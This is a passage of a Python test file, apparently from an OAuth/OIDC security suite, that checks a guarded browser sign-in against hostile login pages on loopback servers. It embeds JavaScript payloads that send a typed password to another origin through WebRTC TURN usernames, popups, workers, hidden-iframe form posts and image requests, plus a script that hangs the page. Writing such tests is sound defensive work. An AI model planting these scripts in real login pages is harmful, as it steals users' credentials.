    (encoded its own way) to another loopback origin. Guarded: nothing arrives there, and the
    rule fails naming that origin."""
    from playwright.sync_api import sync_playwright

    from suite.wire.browser import launch_chromium

    elsewhere = HostileServer({})
    server = HostileServer({})
    server.routes.update(
        {
            "/.well-known/openid-configuration": server.discovery(),
            "/connect/authorize": _exfiltrating_login_page(elsewhere.url, channel),
            "/account/done": Answer(200, {"Content-Type": "text/html"}, b"<!doctype html><p>done</p>"),
        }
    )
    encoded = HOSTILE_CHANNELS[channel][1](PASSWORD)
    try:
        with sync_playwright() as playwright:
            browser = launch_chromium(playwright)
            page = browser.new_page()
            page.goto(server.url + "/connect/authorize")
            page.fill("#password", PASSWORD)
            page.click("#sign-in")
            page.wait_for_url("**/account/done")
            page.wait_for_timeout(300)
            browser.close()
        assert encoded in _received(elsewhere), f"control: the {channel} channel did not deliver {elsewhere.requests}"
        elsewhere.requests.clear()
        result = _sign_in_on_a_hostile_login_page(tmp_path, server.url, "browser")
    finally:
        server.close()
        elsewhere.close()
    output = result.stdout + result.stderr
    assert elsewhere.requests == [], f"the {channel} channel reached another origin: {elsewhere.requests}"
    # another origin the environment does not list: a configuration problem naming it, no failure (no sentence)
    assert result.returncode == 4 and "http.trusted_origins" in output, output[-3000:]
    assert "refused" in output and elsewhere.url.split("//")[1] in output, output[-3000:]
    refusal = next(line for line in output.splitlines() if "configuration problem: refused" in line)
    assert elsewhere.url.split("//")[1] in refusal, refusal
    assert not [form for form in _every_encoding(PASSWORD) if form in output]


class UdpListener:
    """A TURN server's ear on loopback: keeps every datagram it receives, and answers a TURN Allocate
    request that has no USERNAME with 401 and a realm and nonce (RFC 8656 section 7.2), so that the
    client sends it again with its credentials."""

    def __init__(self) -> None:
        import socket
        import threading

        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.datagrams: list[bytes] = []
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                datagram, sender = self.socket.recvfrom(65536)
            except OSError:
                return
            self.datagrams.append(datagram)
            if datagram[:2] == b"\x00\x03" and b"\x00\x06" not in datagram[20:]:  # Allocate, no USERNAME
                self.socket.sendto(self._unauthorized(datagram[4:20]), sender)

    @staticmethod
    def _unauthorized(transaction: bytes) -> bytes:
        import struct

        def attribute(kind: int, value: bytes) -> bytes:
            return struct.pack(">HH", kind, len(value)) + value + b"\0" * (-len(value) % 4)

        attributes = attribute(0x0009, b"\0\0\x04\x01Unauthorized") + attribute(0x0014, b"x") + attribute(0x0015, b"n1")
        return struct.pack(">HH", 0x0113, len(attributes)) + transaction + attributes

    def close(self) -> None:
        self.socket.close()


# The security tester's page: as the password is typed, a peer connection whose TURN server (over UDP)
# is given the password as its username; Chromium sends it in the TURN request's USERNAME attribute.
WEBRTC_BY_SCRIPT = """document.addEventListener("input", () => {
  const p = document.getElementById("password").value; if (!p) return;
  try { const pc = new RTCPeerConnection({iceServers: [{urls: "turn:127.0.0.1:{port}?transport=udp",
    username: p, credential: "x"}]}); pc.createDataChannel("x");
    pc.createOffer().then(o => pc.setLocalDescription(o)); } catch (e) {} }, true);"""


@pytest.mark.skipif(chromium_path() is None and not os.environ.get("CI"), reason="needs Debian's chromium")
def test_a_login_page_sending_the_password_over_webrtc_sends_nothing_and_is_a_configuration_problem(tmp_path):
    """Control: in a browser the suite does not guard, the page's TURN request reaches the UDP port
    carrying the password. Guarded: no datagram leaves, and the run ends in a configuration problem naming
    WebRTC and what to do (no sentence binds what a login page's scripts connect to: AUTH-01 failed citing
    only the suite's policy)."""
    from playwright.sync_api import sync_playwright

    turn = UdpListener()
    server = HostileServer({})
    page_answer = _hostile_login_page("/account/login", WEBRTC_BY_SCRIPT.replace("{port}", str(turn.port)))
    server.routes.update({"/.well-known/openid-configuration": server.discovery(), "/connect/authorize": page_answer})
    try:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=chromium_path(), args=["--no-sandbox"])
            page = browser.new_page()
            page.goto(server.url + "/connect/authorize")
            page.fill("#password", PASSWORD)
            page.wait_for_timeout(1500)
            browser.close()
        assert any(PASSWORD.encode() in datagram for datagram in turn.datagrams), "control: no TURN request came"
        turn.datagrams.clear()
        result = _sign_in_on_a_hostile_login_page(tmp_path, server.url, "browser")
    finally:
        server.close()
        turn.close()
    output = result.stdout + result.stderr
    assert turn.datagrams == [], "the page's WebRTC connection sent UDP"
    assert result.returncode == 4, output[-3000:]
    refusal = next(line for line in output.splitlines() if "configuration problem: refused" in line)
    assert "over WebRTC (RTCPeerConnection" in refusal and "login.method: manual" in refusal, refusal
    assert not [form for form in _every_encoding(PASSWORD) if form in output]


# A page that, once the password is typed, fires every channel every 150 ms (popups, workers, WebRTC,
# form posts into new frames, images): the security tester's page held a run for more than 10 minutes.
STORM_BY_SCRIPT = """const storm = () => {
  const p = encodeURIComponent(document.getElementById("password").value), E = "{elsewhere}";
  try { window.open(E + "/popup?d=" + p, "_blank"); } catch (e) {}
  try { new Worker(URL.createObjectURL(new Blob(["fetch('" + E + "/worker?d=" + p + "')"]))); } catch (e) {}
  try { new RTCPeerConnection({iceServers: [{urls: "turn:127.0.0.1:9?transport=udp", username: p,
    credential: "x"}]}); } catch (e) {}
  for (let i = 0; i < 25; i++) {
    const f = document.createElement("iframe"); f.name = "f" + Math.random(); document.body.append(f);
    const form = Object.assign(document.createElement("form"), {method: "POST", action: E + "/form", target: f.name});
    form.append(Object.assign(document.createElement("input"), {name: "p", value: p})); document.body.append(form);
    form.submit();
    document.body.append(Object.assign(document.createElement("img"), {src: E + "/img?d=" + p + "&" + i}));
  }
};
document.addEventListener("input", () => { storm(); setInterval(storm, 150); }, {once: true, capture: true});
document.forms[0].onsubmit = event => event.preventDefault();"""
# A page whose script, once the password is typed, never returns: Chromium answers nothing for it.
BUSY_BY_SCRIPT = 'document.getElementById("password").addEventListener("change", () => { for (;;) {} });'


@pytest.mark.skipif(chromium_path() is None and not os.environ.get("CI"), reason="needs Debian's chromium")
@pytest.mark.parametrize(
    "script, said",
    [
        (STORM_BY_SCRIPT, ("configuration problem: refused",)),
        # a page that answers nothing: its step's own timeout (login.browser.timeout) ends it, or the deadline (where
        # a picture of it for the report waited for the page until the deadline stopped Chromium)
        (BUSY_BY_SCRIPT, ("the browser sign-in did not end within 20 s", "Timeout 5000ms exceeded")),
    ],
    ids=["storm", "busy"],
)
def test_a_login_page_cannot_hold_the_sign_in_longer_than_its_deadline(tmp_path, script, said):
    """The browser sign-in ends within 4 x login.browser.timeout (20 s here) whatever the page does
    (before, a storm held a run for more than 10 minutes, and a page that never returns forever), with
    its cause: the refusal of what the page sent, or, when it sent nothing, the step or the deadline it outlived."""
    import time

    elsewhere = HostileServer({})
    server = HostileServer({})
    page_answer = _hostile_login_page("/account/login", script.replace("{elsewhere}", elsewhere.url))
    server.routes.update({"/.well-known/openid-configuration": server.discovery(), "/connect/authorize": page_answer})
    started = time.monotonic()
    try:
        result = _sign_in_on_a_hostile_login_page(tmp_path, server.url, "browser")
    finally:
        server.close()
        elsewhere.close()
    took = time.monotonic() - started
    output = result.stdout + result.stderr
    assert elsewhere.requests == [], elsewhere.requests[:3]
    assert result.returncode == (4 if script is STORM_BY_SCRIPT else 1), output[-3000:]  # storm: another origin
    assert any(cause in output for cause in said), output[-3000:]
    assert took < 20 + 40, f"the run took {took:.0f} s"  # the deadline, and the run's own start and end
    assert not [form for form in _every_encoding(PASSWORD) if form in output]


def test_the_secret_svc08_sends_with_its_letters_case_changed_is_masked_as_the_secret_is(tmp_path):
    """SVC-08 sends the service client's own secret with its letters' case changed, to a server that
    compares secrets case-insensitively here: whoever reads that variant knows the secret, so no output
    of the run holds it in any encoding (upper or lower case alone would not cover a mixed-case secret),
    and the reproduction makes it from the secret's variable rather than printing it."""
    from suite.secrets.variants import case_changed

    changed = case_changed(CLIENT_SECRET)
    assert changed not in (CLIENT_SECRET.upper(), CLIENT_SECRET.lower())  # mixed case: no disguise covers it
    text = SANDBOX_YAML.replace('client_secret: "sandbox-service-secret +/=%41:&~ø"', "client_secret: ${T_SECRET}")
    assert text != SANDBOX_YAML
    reports = tmp_path / "reports"
    result = run_ci(
        f"--env={write_environment(tmp_path, text)}",
        f"--reports={reports}",
        "--rule=SVC-08",
        "--defect=secret-case-insensitive",
        environ={"T_SECRET": CLIENT_SECRET},
    )
    output = result.stdout + result.stderr
    assert result.returncode == 1 and "its own secret with its letters' case changed" in output, output[-3000:]
    texts = {"terminal": output} | {
        str(path): path.read_text(errors="replace") for path in reports.rglob("*") if path.is_file()
    }
    assert any("CASE_CHANGED_SECRET=$(printf %s" in content for content in texts.values()), "no reproduction of it"
    forms = _every_encoding(changed) | _every_encoding(CLIENT_SECRET)
    assert not [(name, form) for name, content in texts.items() for form in forms if form in content]
